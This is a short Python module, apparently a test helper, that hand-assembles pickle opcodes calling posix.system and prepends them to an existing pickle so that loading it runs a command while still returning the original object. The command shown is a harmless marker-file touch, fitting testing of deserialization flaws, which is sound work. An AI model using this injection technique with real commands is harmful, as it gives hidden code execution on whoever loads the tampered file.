"""Writes the planted bytes opcode by opcode.

The command is a harmless one: it touches the marker file and nothing else.
"""

from __future__ import annotations

import shlex
from pathlib import Path

PROTO = b"\x80\x02"
GLOBAL = b"cposix\nsystem\n"
BINUNICODE = b"X"
TUPLE1 = b"\x85"
REDUCE = b"R"
POP = b"0"
EMPTY_DICT = b"}"
STOP = b"."


def call(marker: Path) -> bytes:
    """Return the opcodes that run ``touch MARKER`` and leave the stack as it was."""
    command = f"touch {shlex.quote(str(marker))}".encode()
    argument = BINUNICODE + len(command).to_bytes(4, "little") + command
    return PROTO + GLOBAL + argument + TUPLE1 + REDUCE + POP


def planted(victim: bytes, marker: Path) -> bytes:
    """Return the call in front of the victim's own pickle: the loader still gets its object.

    A victim that is no pickle is replaced by the call and an empty dictionary.
    """
    rest = victim if victim.startswith(b"\x80") else EMPTY_DICT + STOP
    return call(marker) + rest
